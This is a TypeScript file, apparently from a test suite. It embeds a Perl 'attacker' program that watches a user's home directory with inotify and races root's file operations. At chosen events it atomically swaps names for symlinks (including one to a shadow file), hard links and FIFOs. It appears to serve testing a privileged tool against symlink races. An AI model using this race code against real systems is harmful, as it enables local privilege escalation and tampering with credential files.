// The attacker: a program in Perl that an unprivileged user of a host runs against what root does in his directory.
// He watches all that happens below it by inotify(7), and swaps names for links, hard links and FIFOs.

/**
 * Functions of the program in `race-program.ts`; for perl-base, which every Debian has.
 *
 * Hard links are made for him beforehand, as if fs.protected_hardlinks were 0, as it is on hosts that are no Debian.
 */
export const ATTACKER_FUNCTIONS = String.raw`
my %NUMBERS = (x86_64 => [294, 254, 316], aarch64 => [26, 27, 276]);
my $machine = (POSIX::uname())[4];
my ($INOTIFY_INIT1, $INOTIFY_ADD_WATCH, $RENAMEAT2) = @{$NUMBERS{$machine} or die "no system calls for $machine\n"};
my ($AT_FDCWD, $EXCHANGE) = (-100, 2);
my ($MODIFY, $ATTRIB, $CLOSE_WRITE, $OPEN, $FROM, $TO, $CREATE, $DELETE) = (2, 4, 8, 32, 64, 128, 256, 512);
my $ALL = $MODIFY | $ATTRIB | $CLOSE_WRITE | $OPEN | $FROM | $TO | $CREATE | $DELETE;
my $ISDIR = 0x40000000;
my %LINKS = (shadow => $SHADOW, inner => "$FOLDER/inner", fresh => $FRESH, folder => $FOLDER, endless => '/dev/zero');

# One system call: both names are there, or the ready thing alone is, and it takes the name. A directory that is not his
# he can rename only beside itself: then the ready thing goes there first.
sub swap {
  my $name = $_[1];
  return 1 if exchange($_[0], $name) || (!lstat $name and rename $_[0], $name);
  return 0 unless -d $name && !-l $name && rename $_[0], "$name.beside";
  $_[0] = "$name.beside";
  return exchange($_[0], $name);
}
sub exchange { my ($one, $other) = @_; return syscall($RENAMEAT2, $AT_FDCWD, $one, $AT_FDCWD, $other, $EXCHANGE) == 0 }

# A thing of this kind, ready to take a name.
my $made = 0;
sub ready {
  my $kind = shift;
  my $path = "$POOL/$kind." . $made++;
  return $path if $kind eq 'hard';
  if ($kind eq 'fifo') { POSIX::mkfifo($path, 0666) }
  else { symlink $LINKS{$kind}, $path }
  return $path;
}

my (%watched, $inotify);
sub watch {
  my $directory = shift;
  my $wd = syscall($INOTIFY_ADD_WATCH, $inotify, $directory, $ALL);
  $watched{$wd} = $directory if $wd >= 0;
}

sub begin_watch {
  my $fd = syscall($INOTIFY_INIT1, 0);
  die "inotify_init1: $!\n" if $fd < 0;
  $inotify = $fd;
  open my $events, '<&=', $fd or die "fdopen: $!\n";
  watch($_) for grep { -d $_ && !-l $_ } $HOME, below($HOME);
  return $events;
}

# Each event as [what, path]; a directory that is made is watched from then on.
sub next_events {
  my $events = shift;
  sysread $events, my $bytes, 65536 or return;
  my @reported;
  while (length $bytes) {
    my ($wd, $mask, undef, $length) = unpack 'iIII', $bytes;
    my $name = unpack 'Z*', substr $bytes, 16, $length;
    $bytes = substr $bytes, 16 + $length;
    next unless exists $watched{$wd};
    my $path = $length ? "$watched{$wd}/$name" : $watched{$wd};
    watch($path) if $mask & $ISDIR && $mask & ($CREATE | $TO);
    push @reported, [$mask & $ALL, $path];
  }
  return @reported;
}

# What happens is asked to standard output, one event a line, until the end.
sub learn {
  my ($events, $reported) = @_;
  while (my @events = next_events($events)) {
    syswrite $reported, join '', map { "$_->[0] " . substr($_->[1], length $HOME) . "\0" } @events;
  }
}

# At an event, the n-th of its kind, this takes that name; then once more, or back again, as the plan says.
sub react {
  my ($events, $plan) = @_;
  my $seen = 0;
  my $ready = ready($plan->{kind});
  while (my @events = next_events($events)) {
    for my $event (@events) {
      my ($what, $path) = @$event;
      next unless $path eq $plan->{on} && $what & $plan->{mask};
      next unless ++$seen >= $plan->{nth};
      return hold() if $seen > $plan->{nth} + 8;
      swap($ready, $plan->{name});
      if ($plan->{back}) { pause($plan->{back}); swap($ready, $plan->{name}); return hold() }
      return hold() unless $plan->{again};
      $ready = ready($plan->{kind});
    }
  }
}

sub hold { sleep 1 while 1 }
sub pause { my $seconds = shift; select undef, undef, undef, $seconds if $seconds > 0.00003 }

# To and fro, as fast as it goes or with pauses.
sub flip {
  my $plan = shift;
  my $ready = ready($plan->{kind});
  while (1) {
    swap($ready, $plan->{name}) or pause(0.0001);
    $ready = ready($plan->{kind}) unless -e $ready || -l $ready;
    pause(rand $plan->{pause});
  }
}
`
